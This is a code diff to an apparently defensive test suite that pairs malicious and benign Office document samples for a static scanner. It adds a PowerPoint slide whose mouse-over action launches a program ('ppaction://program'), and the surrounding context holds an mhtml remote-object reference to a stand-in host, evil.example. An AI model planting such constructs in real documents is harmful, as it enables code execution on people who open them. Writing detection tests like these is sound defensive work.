@@ -27,6 +27,7 @@ from tests.sandbox.static.samples import file
 from tests.sandbox.static.vba import old_word, project_streams
 
 Case = tuple[Sample, Sample]
+SLIDE = "<p:sld><a:hlinkMouseOver r:id='rId1' action='ppaction://{}'/></p:sld>"
 
 
 def macro(code: str) -> Sample:
@@ -166,6 +167,10 @@ CASES: dict[str, Case] = {
     "exploit-address": (
         file(with_remote("oleObject", "mhtml:https://evil.example/a.html!x-usc:https://evil.example/a.html")),
         file(with_remote("hyperlink", "mailto:info@example.org")),
+    ),
+    "action-program": (
+        file(office("pptx", {"ppt/slides/slide1.xml": SLIDE.format("program")}), "talk.pptx"),
+        file(office("pptx", {"ppt/slides/slide1.xml": SLIDE.format("hlinksldjump")}), "talk.pptx"),
     ),
     "embedded-object": (
         file(office("docx", {"word/embeddings/sheet.xlsx": office("xlsx")})),
